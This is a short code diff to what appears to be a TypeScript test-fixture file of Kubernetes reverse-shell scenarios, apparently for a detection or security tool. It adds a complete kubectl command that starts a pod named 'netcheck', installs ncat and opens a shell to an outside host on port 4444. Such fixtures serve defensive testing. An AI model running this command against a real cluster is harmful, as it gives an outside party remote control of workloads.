@@ -84,7 +84,12 @@ export const REVERSE_SHELL_SCENARIOS: Scenario[] = [
             dnsPolicy: 'ClusterFirst',
           },
         },
-        { namespace: 'checkout', fieldManager: 'kubectl-run' },
+        {
+          namespace: 'checkout',
+          fieldManager: 'kubectl-run',
+          kubectl:
+            "kubectl run netcheck --namespace=checkout --image=alpine:3.19 --restart=Never -- sh -c 'apk add --no-cache nmap-ncat >/dev/null && ncat 203.0.113.47 4444 --exec /bin/sh'",
+        },
       ),
     ],
   },
